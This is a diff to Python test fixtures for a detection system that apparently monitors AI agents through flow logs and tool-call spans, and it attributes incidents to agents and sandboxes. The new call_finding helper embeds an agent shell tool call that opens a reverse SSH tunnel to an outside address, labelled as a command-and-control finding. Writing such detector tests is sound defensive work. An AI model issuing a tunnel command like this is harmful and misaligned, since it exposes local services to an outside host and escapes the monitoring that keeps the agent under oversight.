@@ -53,6 +53,8 @@ def finding(number: int, **changed: Any) -> Document:
     whole = incident(number)
     event = {
         "event.id": "e", "event.dataset": "aws_vpc_flow", "event.start": at(base + 10), "destination.port": 22,
+        "source.ip": "10.0.0.1", "source.port": 40_000, "destination.ip": "198.51.100.7", "network.direction": "egress",
+        "event.action": "accept", "event.outcome": "success", "source.bytes": 1_500, "source.packets": 12,
         "event.original": f"2 1 eni-1 10.0.0.1 198.51.100.7 40000 22 6 {number}", "log.file.path": "flow.log",
         "log.offset": 10,
     }  # fmt: skip
@@ -64,8 +66,37 @@ def finding(number: int, **changed: Any) -> Document:
         "finding.last_seen": at(base + 30), "finding.severity": "high", "finding.title": "SSH to an unlisted peer",
         "rule.id": "8d1a0f56-3c2b-4b9b-b1f7-5f1e2f0c7a03", "rule.name": "command-and-control/ssh-to-unlisted-peer",
         "peer.ip": "198.51.100.7", "peer.port": [22], "event.dataset": ["aws_vpc_flow"], "event.count": 3,
+        "event.outcome": ["success"],
         "network.conversations": 1, "source.bytes": 4_000, "destination.bytes": 900, "finding.evidence": [event],
         "recommendation": ["Cut it."], **changed,
+    }  # fmt: skip
+
+
+def call_finding(number: int, **changed: Any) -> Document:
+    """Return a finding on the text of its tool call."""
+    said = '{"command": "ssh -fN -R 16708:localhost:6006 root@198.51.100.7"}'
+    event = {
+        "event.id": "c", "event.dataset": "otlp_spans", "event.start": at(60 * number + 9.5),
+        "gen_ai.operation.name": "execute_tool", "gen_ai.tool.name": "shell", "gen_ai.tool.call.id": f"call{number}",
+        "gen_ai.tool.call.arguments": said, "event.outcome": "success", "event.original": "{}",
+    }  # fmt: skip
+    call = {name: value for name, value in incident(number).items() if name.startswith("gen_ai.tool.")}
+    told = {
+        **finding(number), **call, "gen_ai.tool.call.gap": 0.0, "finding.id": f"{number:016x}{'1' * 16}",
+        "rule.id": "1828953f-1d9f-5a9a-ace0-f047e8c6b0d5", "event.dataset": ["otlp_spans"],
+        "rule.name": "command-and-control/reverse-tunnel-in-tool-call", "event.count": 1, "finding.evidence": [event],
+        "finding.title": "Tool call opens a reverse SSH tunnel", "event.outcome": ["failure"],
+    }  # fmt: skip
+    return {name: value for name, value in told.items() if not name.startswith("peer.")} | changed
+
+
+def unsure(number: int, of: Document, **changed: Any) -> Document:
+    """Return an ambiguous incident of which another is a candidate, at the same time and with the same peer."""
+    names = ("gen_ai.agent.id", "trajectory.id", "sandbox.id", "attribution.lease_id", "attribution.lease_start")
+    return {name: value for name, value in of.items() if name not in names} | {
+        "incident.id": f"{number:032x}", "entity.type": "address", "entity.id": "10.0.0.1",
+        "incident.title": f"SSH to an unlisted peer by address 10.0.0.{number}", "attribution.status": "ambiguous",
+        "attribution.level": "address", "attribution.candidates": [*of["attribution.lease_id"], "another"], **changed,
     }  # fmt: skip
 
 
